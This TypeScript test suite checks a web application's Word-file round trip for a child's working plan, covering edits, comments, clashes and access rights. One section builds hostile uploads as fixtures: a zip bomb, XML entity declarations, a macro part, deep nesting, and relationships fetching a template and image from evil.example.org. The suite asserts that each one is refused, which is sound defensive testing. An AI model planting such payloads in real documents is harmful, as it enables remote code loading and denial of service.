import assert from 'node:assert/strict'
import { after, before, beforeEach, describe, it } from 'node:test'
import { aPlanUnderAmendment, lineAt, livePlan, writeLine } from '../../../test/builders/a-working-document.ts'
import { accepted, commented, paragraphAfter, paragraphGone, resaved, tracked, typedOver, withDocument } from '../../../test/builders/edited-docx.ts'
import { docxOf } from '../../../test/builders/hostile-files.ts'
import type { Hub, Visitor } from '../../../test/harness/hub.ts'
import { aHub } from '../../../test/harness/hub.ts'
import { partsOfZip, zipOf } from '../../../test/harness/zip-file.ts'
import type { CaseKey } from '../../casebook/open-case-file.ts'
import type { PlanLine } from '../../domain/plan/line.ts'
import { paths } from '../../paths.ts'
import { paragraphsOfDocx } from '../../platform/documents/docx-paragraphs.ts'

describe('the working document as a Word file, out and back', () => {
  let hub: Hub
  let key: CaseKey
  let [first, second]: (PlanLine | undefined)[] = []
  before(async () => { hub = await aHub({ now: '2027-01-12T10:00:00.000Z' }) })
  beforeEach(async () => {
    key = await aPlanUnderAmendment(hub, { morePairs: 3 })
    first = await lineAt(hub, key, 'B', 1)
    second = await lineAt(hub, key, 'B', 2)
  })
  after(() => hub.close())

  const b1 = (): PlanLine => first ?? assert.fail('no B1')
  const b2 = (): PlanLine => second ?? assert.fail('no B2')

  /** A copy as this person takes it through the pages. */
  const copyFor = async (person: string, whose?: string): Promise<Uint8Array> => {
    const visitor = await (await hub.as(person)).get(paths.planWorkingCopy(key))
    await visitor.submit(whose === undefined ? {} : { whose }, { button: 'Make the Word file' })
    assert.match(visitor.text, /The Word file is made/, visitor.errors.join())
    const href = visitor.root.querySelectorAll('a').find((anchor) => /^Copy \d+$/.test(anchor.textContent.trim()))?.getAttribute('href')
    return (await visitor.download(href ?? assert.fail('no copy'))).bytes
  }
  const bring = async (person: string, bytes: Uint8Array, filled: Record<string, string> = {}): Promise<Visitor> => {
    const visitor = await (await hub.as(person)).get(paths.planWorkingBack(key))
    return visitor.submitFiles({ file: { name: 'plan.docx', bytes } }, filled)
  }
  const proposalsSeenBy = async (person: string): Promise<string> => (await (await hub.as(person)).get(paths.planWorking(key))).text
  const textsNow = async (): Promise<string[]> => (await livePlan(hub, key)).lines.map(({ text }) => text)

  it('asks for nothing when nothing was changed, also after another program saved it', async () => {
    const copy = await copyFor('shno')
    for (const bytes of [copy, resaved(copy), resaved(copy, { loses: true })]) {
      const shno = await bring('shno', bytes)
      assert.deepEqual(shno.errors, ['The file says the same as the copy that it was made from, so there is nothing to ask for'])
    }
  })

  for (const [how, change] of [
    ['typed over', typedOver], ['with tracked changes', tracked],
    ['with tracked changes that were accepted', (bytes: Uint8Array, words: string, others: string) => accepted(tracked(bytes, words, others))],
    ['typed over and saved by another program', (bytes: Uint8Array, words: string, others: string) => resaved(typedOver(bytes, words, others))],
    ['typed over, its hidden marks lost', (bytes: Uint8Array, words: string, others: string) => resaved(typedOver(bytes, words, others), { loses: true })],
  ] as const) {
    it(`brings a change home: ${how}; accepted, the next copy says it`, async () => {
      const shno = await bring('shno', change(await copyFor('shno'), 'two key words', 'three key words'))
      assert.equal(shno.heading, 'What the file asks for', shno.errors.join())
      assert.match(shno.text, /1 difference found: 1 to ask for/)
      assert.match(shno.text, /B1: Other words.*removed: two.*added: three/)
      await shno.submit()
      assert.match(shno.text, /What you ticked is asked for/)
      assert.ok((await textsNow()).some((text) => text.includes('two key words')), 'nothing in the plan changes by itself')

      const hattie = await (await hub.as('hattie')).get(paths.planWorking(key))
      assert.match(hattie.text, /added, asked for by the family: three/)
      await hattie.follow('Answer Shno Tahsin about B1')
      await hattie.submit({ decision: 'accepted' })
      assert.ok((await textsNow()).some((text) => text.includes('three key words')))

      const again = paragraphsOfDocx(await copyFor('debra'))
      assert.ok(again.ok && again.value.some(({ text }) => text === b1().text.replace('two key words', 'three key words')))
    })
  }

  it('understands an addition, a line taken out, a comment in the margin and a changed box', async () => {
    let bytes = await copyFor('shno')
    bytes = paragraphAfter(bytes, 'To add to section B, write below this line.', 'Rewan cannot tell when he is thirsty.')
    bytes = paragraphGone(bytes, b2().text)
    bytes = commented(bytes, b1().text, 'Is this still true?')
    bytes = typedOver(bytes, '45 minutes, once a week', '60 minutes, once a week')
    const shno = await bring('shno', bytes)
    assert.match(shno.text, /4 differences found: 4 to ask for, 0 that could not be placed/)
    assert.match(shno.text, /Section B: Something to add.*Rewan cannot tell when he is thirsty/)
    assert.match(shno.text, /B2: Take it out/)
    assert.match(shno.text, /B1: Comment.*Is this still true\?.*A comment of Dana Outside in the file/)
    assert.match(shno.text, /F1: Other details.*How much and how often:.*removed: 45.*added: 60/)
    await shno.submit()
    const seen = await proposalsSeenBy('hattie')
    assert.match(seen, /Asks for an addition.*Rewan cannot tell when he is thirsty/)
    assert.match(seen, /Asks to take it out/)
    assert.match(seen, /Is this still true\?/)
  })

  it('changes the amounts of a line when a changed box is accepted, and leaves words that cannot be read as a comment', async () => {
    const asked = typedOver(await copyFor('shno'), '45 minutes, once a week', '60 minutes, once a week')
    await (await bring('shno', asked)).submit()
    const hattie = await (await hub.as('hattie')).get(paths.planWorking(key))
    assert.match(hattie.text, /What it says besides:.*removed: 45 minutes.*added: 1 hour/)
    await hattie.follow('Answer Shno Tahsin about F1')
    assert.match(hattie.text, /the amounts and details that are asked for above are written/)
    await hattie.submit({ decision: 'accepted' })
    const line = await lineAt(hub, key, 'F', 1)
    assert.deepEqual([line.fields.minutes, line.fields.times, line.fields.per], [60, 1, 'week'])
    const again = await bring('debra', typedOver(await copyFor('debra'), ', once a week', ' as much as she thinks right'))
    assert.match(again.text, /F1: Comment.*as much as she thinks right/)
  })

  it('shows what could not be placed, and takes it where it is put', async () => {
    const shno = await bring('shno', paragraphAfter(await copyFor('shno'), 'Working document: education', 'We also want a new bus.'))
    assert.match(shno.text, /1 that could not be placed.*We also want a new bus\./)
    const place = [...shno.fieldsOf(shno.form()).keys()].find((name) => name.startsWith('place-')) ?? assert.fail('no place to choose')
    await shno.submit({ [place]: 'H2' })
    assert.match(await proposalsSeenBy('shno'), /Said of section H2Asks for an addition.*We also want a new bus\./)
  })

  it('asks once for the same file brought twice, and says so', async () => {
    const bytes = typedOver(await copyFor('shno'), 'two key words', 'three key words')
    await (await bring('shno', bytes)).submit()
    const again = await bring('shno', resaved(bytes))
    assert.match(again.text, /0 to ask for, 0 that could not be placed, 1 that need nothing/)
    assert.match(again.text, /Asked for before/)
    await again.submit()
    assert.match(again.text, /Nothing was asked for\. Your file is kept/)
    assert.equal((await proposalsSeenBy('hattie')).match(/Asks for other words/g)?.length, 1)
  })

  it('shows a clash with all three texts and loses none of them', async () => {
    const bytes = typedOver(await copyFor('hattie'), 'two key words', 'three key words')
    await writeLine(hub, key, b1(), `${b1().text} In a quiet room he understands four.`)
    const hattie = await bring('hattie', bytes, { whose: 'council' })
    assert.match(hattie.text, /The line was changed meanwhile/)
    assert.match(hattie.text, /the line says now.*In a quiet room he understands four/)
    await hattie.submit()
    const seen = await proposalsSeenBy('hattie')
    assert.match(seen, /In a quiet room he understands four/)
    assert.match(seen, /three/)
    await hattie.follow('Answer Hattie Greaves about B1')
    assert.match(hattie.text, /In a quiet room he understands four/)
    assert.match(hattie.text, /three key words/)
  })

  it('is looked through by who brought it and by nobody else; each parent has their own copies and words', async () => {
    const shno = await bring('shno', typedOver(await copyFor('shno'), 'two key words', 'three key words'))
    const at = shno.url
    await shno.submit()
    for (const person of ['hoshang', 'debra', 'hattie']) {
      const other = await hub.as(person)
      await other.get(at)
      assert.equal(other.status, 404, person)
    }
    const hoshang = await (await hub.as('hoshang')).get(paths.planWorkingCopy(key))
    assert.doesNotMatch(hoshang.text, /three key words|Shno Tahsin asks|As Shno|Copy 1/)
    const copyOfShno = (await (await hub.as('shno')).get(paths.planWorkingCopy(key))).link('Copy 1')
    const stranger = await hub.as('hoshang')
    await stranger.get(copyOfShno)
    assert.equal(stranger.status, 404)
  })

  it('holds one parent’s words alone where the council makes a copy for them', async () => {
    await (await bring('shno', typedOver(await copyFor('shno'), 'two key words', 'three key words'))).submit()
    await (await bring('hoshang', typedOver(await copyFor('hoshang'), b2().text, `${b2().text} At home too.`))).submit()
    const hattie = await (await hub.as('hattie')).get(paths.planWorkingCopy(key))
    assert.match(hattie.text, /It shows what 2 people asked for/)
    await hattie.submit({}, { button: 'Make the Word file' })
    assert.deepEqual(hattie.errors, ['Select whose requests stand in the file'])
    const id = hattie.root.querySelectorAll('input[name=whose]').find((input) => hattie.root.querySelector(`label[for="${input.getAttribute('id') ?? ''}"]`)?.textContent.includes('Hoshang') === true)?.getAttribute('value')
    const words = [...partsOfZip(await copyFor('hattie', id)).values()].join()
    assert.match(words, /At home too/)
    assert.doesNotMatch(words, /three<|three key|Shno Tahsin asks|As Shno/)
  })

  it('an officer brings a family’s file: it stands as that person’s, and how it came', async () => {
    const hattie = await bring('hattie', typedOver(await copyFor('hattie'), 'two key words', 'three key words'))
    assert.deepEqual(hattie.errors, ['Select whose changes they are'])
    const shnoId = hattie.root.querySelectorAll('input[name=whose]').find((input) => hattie.root.querySelector(`label[for="${input.getAttribute('id') ?? ''}"]`)?.textContent.includes('Shno') === true)?.getAttribute('value') ?? ''
    const brought = await bring('hattie', typedOver(await copyFor('hattie'), 'two key words', 'three key words'), { whose: shnoId, how: 'email' })
    await brought.submit()
    assert.match(await proposalsSeenBy('hattie'), /Shno Tahsin, by e-mail, written down by Hattie Greaves/)
    assert.match(await proposalsSeenBy('shno'), /three/)
  })

  describe('refuses, in plain words, and keeps nothing', () => {
    const relationships = (target: string): Map<string, string | Uint8Array> => {
      const parts = new Map<string, string | Uint8Array>(partsOfZip(docxOf('<w:p><w:r><w:t>Words</w:t></w:r></w:p>')))
      return parts.set('word/_rels/document.xml.rels', `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${target}</Relationships>`)
    }
    const words = docxOf('<w:p><w:r><w:t>Words of another plan</w:t></w:r></w:p>')
    const files: readonly (readonly [what: string, bytes: () => Uint8Array, says: RegExp])[] = [
      ['another document', () => words, /No line of this plan was found/],
      ['a file cut short', () => words.slice(0, 200), /damaged/],
      ['a bomb', () => zipOf(new Map<string, string | Uint8Array>([...partsOfZip(words), ['word/media.xml', Buffer.alloc(100 * 1024 * 1024)]])), /damaged|too large/],
      ['entities', () => withDocument(words, (xml) => xml.replace('<w:document', '<!DOCTYPE w [<!ENTITY b "bbbb">]><w:document')), /damaged/],
      ['entities in another encoding', () => zipOf(new Map<string, string | Uint8Array>([...partsOfZip(words), ['word/document.xml', Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>', 'utf16le')]])), /damaged/],
      ['macros', () => zipOf(new Map<string, string | Uint8Array>([...partsOfZip(words), ['word/vbaProject.bin', 'x']])), /macros/],
      ['a template from elsewhere', () => zipOf(relationships('<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example.org/t.dotm" TargetMode="External"/>')), /fetches something from elsewhere/],
      ['a picture from elsewhere', () => zipOf(relationships('<Relationship Target="http://evil.example.org/p.png" TargetMode=\'External\' Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>')), /fetches something from elsewhere/],
      ['another file inside', () => withDocument(words, (xml) => xml.replace('<w:p>', '<w:altChunk r:id="x" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:p>')), /fetches something from elsewhere/],
      ['nesting without end', () => docxOf(`${'<w:sdt><w:sdtContent>'.repeat(30_000)}${'</w:sdtContent></w:sdt>'.repeat(30_000)}`), /cannot be read|too large/],
      ['XML that is not whole', () => withDocument(words, (xml) => xml.replace('</w:p>', '')), /cannot be read/],
      ['a PDF by another name', () => Buffer.from('%PDF-1.7 nothing'), /not the type its name says|must be a Word document|damaged/],
    ]
    for (const [what, bytes, says] of files) {
      it(what, async () => {
        const shno = await bring('shno', bytes())
        assert.equal(shno.status, 422)
        assert.match(shno.errors.join(), says)
      })
    }

    it('no file at all', async () => {
      const shno = await (await hub.as('shno')).get(paths.planWorkingBack(key))
      await shno.submitFiles({})
      assert.deepEqual(shno.errors, ['Select a file'])
    })
  })

  it('makes no file that can come back, and takes none, where nothing waits for changes', async () => {
    const other = await aHub({ now: '2027-01-12T10:00:00.000Z' })
    try {
      const issued = await (await import('../../../test/builders/an-issued-plan.ts')).anIssuedPlan(other)
      const shno = await (await other.as('shno')).get(paths.planWorkingCopy(issued))
      assert.equal(shno.status, 200)
      assert.doesNotMatch(shno.text, /Make the Word file/)
    } finally {
      await other.close()
    }
  })
})
